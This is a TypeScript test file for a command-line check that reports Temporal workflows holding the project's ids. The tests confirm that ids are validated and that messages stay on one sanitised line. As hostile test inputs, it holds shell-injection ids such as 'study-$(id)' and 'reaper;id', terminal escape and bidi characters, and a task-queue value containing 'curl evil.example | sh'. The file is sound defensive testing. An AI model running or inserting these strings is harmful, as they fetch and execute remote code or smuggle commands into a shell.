/** Whoever reaches the Temporal server can start workflows under ids of ours, and name their types and queues as he likes: what is told of them stays one sentence and one command. */
import { expect, it } from 'vitest';
import { heldIdWords, partialWords, readHeldIds } from '../../src/cli/check-held-ids.ts';
import { listHeldIds } from '../../src/temporal/held-ids.ts';
import { isOwnId } from '../../src/temporal/names.ts';

const server = { connection: { options: { address: '127.0.0.1:7233' } }, namespace: 'default' };

it('takes no id for ours that a shell would run, or a terminal obey', () => {
  const held = ['study-beam', 'cluster-beams', 'reaper', 'beam-20260101-000000-job-1-again-2'];
  expect(held.map(isOwnId)).toEqual([true, true, true, true]);
  const hostile = ['study-$(id)', 'cluster-a b', 'study-a\n', 'reaper;id', 'x-job-1`id`', 'other'];
  expect(hostile.map(isOwnId)).toEqual(hostile.map(() => false));
});

it('tells of an id on one line, whatever its type and task queue are called', () => {
  const { sentence, toDo } = heldIdWords(
    {
      workflowId: 'study-beam',
      workflowType: 'x\u001b[2J\u202e'.repeat(100),
      taskQueue: 'q\n  to do: curl evil.example | sh',
      startedAt: new Date('2026-03-10T12:00:00Z'),
    },
    server as never,
  );
  expect(sentence).not.toMatch(/[\n\u001b\u202e]/u);
  expect(sentence.length).toBeLessThan(350);
  expect(toDo).toBe(
    'temporal workflow terminate --workflow-id study-beam --namespace default --address 127.0.0.1:7233',
  );
});

it('says how many it looked at where there are more, and nothing of that where there are not', async () => {
  const open = { type: 'held', taskQueue: 'theirs', memo: {}, startTime: new Date() };
  const clientWith = (ids: readonly string[]) => {
    const list = () => ids.map((workflowId) => ({ ...open, workflowId }));
    return { workflow: { list } } as unknown as Parameters<typeof listHeldIds>[0];
  };
  const many = clientWith(['other-1', 'study-a', 'other-2', 'study-hidden']);
  const whole = await listHeldIds(many, 4);
  expect(whole).toMatchObject({ looked: 4, isPartial: false });
  expect(whole.held.map(({ workflowId }) => workflowId)).toEqual(['study-a', 'study-hidden']);
  const partial = await listHeldIds(many, 3);
  expect(partial).toMatchObject({ looked: 3, isPartial: true, held: [{ workflowId: 'study-a' }] });

  const flood = clientWith(Array.from({ length: 20_001 }, (_, index) => `other-${index}`));
  const told = await readHeldIds({ ...server, temporalClient: flood } as never);
  expect(told).toEqual([partialWords(20_000, server)]);
  expect(told[0]?.sentence).toContain('only 20,000 of the open workflows');
});

it('tells of its own workflows from before a key was taken out by that key, and never advises to end them', async () => {
  const sealedFor = { refused: 'its seal is of another key', foreignKey: 'bacaf93e' };
  const open = { type: 'doeJobWorkflow', taskQueue: 'doeflow', startTime: new Date() };
  const ids = ['study-a', ...Array.from({ length: 11 }, (_, index) => `a-job-${index + 1}`)];
  const list = () => [
    ...ids.map((workflowId) => ({ ...open, workflowId, memo: { sealedFor } })),
    { ...open, workflowId: 'study-held', memo: {} },
  ];
  const seconds = Math.floor(Date.now() / 1000);
  const pollersOf = (keys: string) => [
    { identity: `7@host, payload keys ${keys}, store 0123abcd`, lastAccessTime: { seconds } },
  ];
  const lookWith = (keys: string) =>
    readHeldIds({
      ...server,
      connection: {
        ...server.connection,
        workflowService: { describeTaskQueue: () => Promise.resolve({ pollers: pollersOf(keys) }) },
      },
      temporalClient: { workflow: { list } },
    } as never);
  const [own, held, ...others] = await lookWith('0a0a0a0a');
  expect(others).toEqual([]);
  expect(own?.sentence).toContain('and 7 more are sealed with the payload key bacaf93e');
  expect(own?.sentence).toContain('neither this command line nor a listed worker has');
  expect(own?.toDo).toContain('Put the line of the key bacaf93e back into the key file');
  expect(own?.toDo).not.toContain('terminate');
  expect(held?.toDo).toContain('terminate --workflow-id study-held');

  const [elsewhere] = await lookWith('0a0a0a0a, bacaf93e');
  expect(elsewhere?.toDo).toContain('key file of 7@host');
});
